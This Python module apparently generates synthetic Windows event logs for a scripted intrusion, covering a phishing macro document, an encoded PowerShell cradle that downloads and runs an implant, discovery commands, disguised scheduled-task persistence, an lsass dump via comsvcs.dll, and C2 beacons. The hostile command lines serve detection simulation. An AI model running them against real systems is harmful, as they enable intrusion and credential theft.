"""The first half of the intruder's story: a document, a foothold, what is found there, and the beacon."""

from __future__ import annotations

import base64

import numpy as np

from vizsla.simulate.assumptions import assumptions
from vizsla.simulate.frame import POWERSHELL, SECURITY, SYSMON, TASKS, utc_time
from vizsla.simulate.lateral import Spread, stolen_logon
from vizsla.simulate.people import DAY, SECOND, Host
from vizsla.simulate.story import Actor, Story

MINUTE = 60 * SECOND
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
TREE = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree"
TRACE = (
    "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
    "C:\\Windows\\System32\\comsvcs.dll+21cd5|UNKNOWN(00000252B1A40FAE)"
)
TASK = "\\Microsoft\\Windows\\OneDrive\\SyncHealth"
DISCOVERY = (
    ("whoami.exe", "whoami  /all", "T1033"),
    ("net.exe", 'net  group "Domain Admins" /domain', "T1069.002"),
    ("nltest.exe", "nltest  /domain_trusts /all_trusts", "T1482"),
    ("systeminfo.exe", "systeminfo", "T1082"),
    ("ipconfig.exe", "ipconfig  /all", "T1016"),
    ("net.exe", "net  view /all /domain", "T1018"),
    ("tasklist.exe", "tasklist  /v", "T1057"),
    ("net.exe", "net  localgroup administrators", "T1069.001"),
)


def encoded(script: str) -> str:
    """A script as `powershell -EncodedCommand` takes it."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


class Plot:
    """What the intruder does, in order."""

    def __init__(self, story: Story, victim: Host, days: list[int]) -> None:
        self.story, self.victim, self.days = story, victim, days
        self.calendar, self.rng = story.company.calendar, story.rng
        settings = assumptions()["intrusion"]
        self.name, self.address, self.settings = settings["domain"], settings["address"], settings
        self._last: Actor | None = None  # the implant that a task started after a restart
        self.implant_path = f"C:\\Users\\{victim.user}\\AppData\\Local\\Microsoft\\OneDrive\\Update\\OneSyncHelper.exe"

    def play(self) -> None:
        first = self.days[0]
        plan = self.calendar.plan(self.victim, first)
        opened = plan.arrive + int(self.rng.integers(40, 90)) * MINUTE
        implant = self._phish(first, opened)
        self._discover(implant, opened + 14 * MINUTE)
        self._persist(implant, opened + 31 * MINUTE)
        self._steal(implant, opened + 47 * MINUTE)
        later = self.days[1] if len(self.days) > 1 else first
        implants = {first: implant}
        for day in self.days[1:]:
            implants[day] = self._again(day, implant)
        for day, actor in implants.items():
            self._beacon(day, actor, implant.time if day == first else actor.time)
        start = (
            self.calendar.plan(self.victim, later).arrive + 150 * MINUTE if later != first else opened + 120 * MINUTE
        )
        Spread(self.story, self.victim, self.name, self.address).play(implants[later], start)

    def _phish(self, day: int, time: int) -> Actor:
        story, victim = self.story, self.victim
        folder = f"C:\\Users\\{victim.user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K3V9QZ1T"
        document = f"{folder}\\Overdue invoice 20418.docm"
        outlook = story.resident(victim, day, "explorer")
        story.act(
            outlook,
            11,
            time - 4 * SECOND,
            {"TargetFilename": document, "CreationUtcTime": utc_time(np.array([time]))[0].as_py()},
            "phishing",
            "T1566.001",
        )
        word = story.process(outlook, time, WORD, f'"{WORD}" /n "{document}" /o ""', "phishing", "T1204.002", life=1500)
        script = (
            f"$w=New-Object Net.WebClient;$w.DownloadFile('https://{self.name}/u/20418','{self.implant_path}');"
            f"Start-Process '{self.implant_path}'"
        )
        command = f"powershell.exe -nop -w hidden -ep bypass -enc {encoded(script)}"
        shell = story.process(word, time + 9 * SECOND, PS, command, "execution", "T1059.001", life=22)
        story.process(
            shell,
            time + 9 * SECOND + 90_000,
            "C:\\Windows\\System32\\conhost.exe",
            "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
            "execution",
            "T1059.001",
            life=21,
        )
        story.load(
            shell,
            time + 10 * SECOND,
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\System.Management.Automation.dll",
            "execution",
            "T1059.001",
        )
        return self._download(shell, script, time)

    def _download(self, shell: Actor, script: str, time: int) -> Actor:
        story, victim = self.story, self.victim
        story.tell(
            victim,
            POWERSHELL,
            4104,
            time + 11 * SECOND,
            {
                "MessageNumber": "1",
                "MessageTotal": "1",
                "ScriptBlockText": script,
                "ScriptBlockId": "5f0c1f3e-8d1b-4f53-9a53-0b7f4c1d2e90",
                "Path": "",
                "UserID": victim.sid,
            },
            "execution",
            "T1059.001",
        )
        story.connect(
            shell,
            time + 12 * SECOND,
            self.address,
            443,
            "execution",
            "T1105",
            name=self.name,
            sent=1200,
            received=624_000,
            seconds=3.4,
        )
        story.act(
            shell,
            11,
            time + 16 * SECOND,
            {"TargetFilename": self.implant_path, "CreationUtcTime": utc_time(np.array([time]))[0].as_py()},
            "execution",
            "T1105",
        )
        return story.process(
            shell, time + 19 * SECOND, self.implant_path, f'"{self.implant_path}"', "execution", "T1204.002", life=0
        )

    def _discover(self, implant: Actor, time: int) -> None:
        for image, command, technique in DISCOVERY:
            shell = self.story.process(
                implant, time, CMD, f"C:\\Windows\\system32\\cmd.exe /C {command}", "discovery", technique, life=3
            )
            self.story.process(
                shell, time + 60_000, f"C:\\Windows\\System32\\{image}", command, "discovery", technique, life=1.5
            )
            time += int(self.rng.integers(20, 100)) * SECOND

    def _persist(self, implant: Actor, time: int) -> None:
        story, victim = self.story, self.victim
        command = f'schtasks  /create /tn "{TASK[1:]}" /tr "{self.implant_path}" /sc onlogon /f'
        story.process(implant, time, "C:\\Windows\\System32\\schtasks.exe", command, "persistence", "T1053.005", life=1)
        day = (time - self.calendar.midnight) // DAY
        scheduler = story.resident(victim, day, "svchost_sched")
        at = time + 300_000
        content = (
            '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2">\r\n  <Actions><Exec>'
            f"<Command>{self.implant_path}</Command></Exec></Actions>\r\n</Task>"
        )
        story.tell(
            victim,
            SECURITY,
            4698,
            at,
            story.subject(implant) | {"TaskName": TASK, "TaskContent": content},
            "persistence",
            "T1053.005",
        )
        story.tell(victim, TASKS, 106, at, {"TaskName": TASK, "UserContext": implant.user}, "persistence", "T1053.005")
        story.act(
            scheduler,
            11,
            at,
            {
                "TargetFilename": f"C:\\Windows\\System32\\Tasks{TASK}",
                "CreationUtcTime": utc_time(np.array([at]))[0].as_py(),
            },
            "persistence",
            "T1053.005",
        )
        story.act(
            scheduler,
            13,
            at + 9000,
            {
                "EventType": "SetValue",
                "TargetObject": f"{TREE}{TASK}\\Id",
                "Details": "{5C1D7B64-90BB-4C0F-8B0D-5E3E5A11C7A2}",
            },
            "persistence",
            "T1053.005",
        )

    def _steal(self, implant: Actor, time: int) -> None:
        story, victim = self.story, self.victim
        day = (time - self.calendar.midnight) // DAY
        lsass = story.resident(victim, day, "lsass")
        dump = "C:\\Windows\\Temp\\wer7F21.tmp"
        command = (
            f"C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} {dump} full"
        )
        admin = (f"LARKFIELD\\{victim.admin}", victim.admin_sid, 0x5C21F4)
        self._borrow(implant, admin, time)
        thief = story.process(
            implant,
            time,
            "C:\\Windows\\System32\\rundll32.exe",
            command,
            "credential access",
            "T1003.001",
            life=6,
            as_admin=admin,
        )
        story.tell(
            victim,
            SYSMON,
            10,
            time + 400_000,
            {
                "RuleName": "-",
                "UtcTime": utc_time(np.array([time + 400_000]))[0].as_py(),
                "SourceProcessGUID": thief.guid,
                "SourceProcessId": str(thief.pid),
                "SourceThreadId": "6152",
                "SourceImage": thief.image,
                "TargetProcessGUID": lsass.guid,
                "TargetProcessId": str(lsass.pid),
                "TargetImage": lsass.image,
                "GrantedAccess": "0x1fffff",
                "CallTrace": TRACE,
                "SourceUser": thief.user,
                "TargetUser": lsass.user,
            },
            "credential access",
            "T1003.001",
        )
        story.load(thief, time + 150_000, "C:\\Windows\\System32\\comsvcs.dll", "credential access", "T1003.001")
        story.act(
            thief,
            11,
            time + 900_000,
            {"TargetFilename": dump, "CreationUtcTime": utc_time(np.array([time]))[0].as_py()},
            "credential access",
            "T1003.001",
        )

    def _borrow(self, implant: Actor, admin: tuple[str, str, int], time: int) -> None:
        story, victim = self.story, self.victim
        story.tell(
            victim,
            SECURITY,
            4648,
            time - 2 * SECOND,
            story.subject(implant)
            | {
                "LogonGuid": "00000000-0000-0000-0000-000000000000",
                "TargetLogonGuid": "00000000-0000-0000-0000-000000000000",
                "TargetServerName": "localhost",
                "TargetInfo": "localhost",
                "TargetUserName": victim.admin,
                "TargetDomainName": "LARKFIELD",
                "ProcessId": hex(implant.pid),
                "ProcessName": implant.image,
                "IpAddress": "-",
                "IpPort": "-",
            },
            "credential access",
            "T1078.002",
        )
        stolen_logon(story, victim, victim, time - SECOND, admin, victim.address, "9", "credential access", "T1078.002")

    def _again(self, day: int, implant: Actor) -> Actor:
        """The implant on a later day: the same process, or after a restart a new one by the task."""
        story, victim = self.story, self.victim
        if self.calendar.last_boot(victim, day) < (implant.time - self.calendar.midnight) // DAY:
            return implant
        boot = self.calendar.last_boot(victim, day)
        if boot != day:  # restarted on an earlier day than this one: the process of that day goes on
            return self._last or implant
        if boot == self.days[0]:
            return implant
        begin = story.company.processes.session_logon(victim, day)[0] + 25 * SECOND
        scheduler = story.resident(victim, day, "svchost_sched")
        session = story.resident(victim, day, "explorer")
        self._last = story.process(
            scheduler,
            begin,
            self.implant_path,
            self.implant_path,
            "persistence",
            "T1053.005",
            life=0,
            as_admin=(session.user, session.sid, session.logon),
        )
        story.tell(
            victim,
            TASKS,
            200,
            begin - 900,
            {
                "TaskName": TASK,
                "ActionName": self.implant_path,
                "TaskInstanceId": "{E1B0A7C9-2F44-4E0B-9D3B-6B7A5A0C9F31}",
            },
            "persistence",
            "T1053.005",
        )
        return self._last

    def _beacon(self, day: int, actor: Actor, since: int) -> None:
        plan, beacon = self.calendar.plan(self.victim, day), self.settings["beacon"]
        time = max(since, plan.on[0]) + 30 * SECOND
        while time < plan.on[1]:
            sent, received = int(self.rng.normal(1400, 60)), int(self.rng.normal(620, 25))
            self.story.connect(
                actor,
                time,
                self.address,
                443,
                "command and control",
                "T1071.001",
                name=self.name,
                sent=max(sent, 900),
                received=max(received, 400),
                seconds=float(self.rng.uniform(0.3, 0.9)),
            )
            time += int(beacon["seconds"] * SECOND * (1 + beacon["jitter"] * self.rng.uniform(-1, 1)))
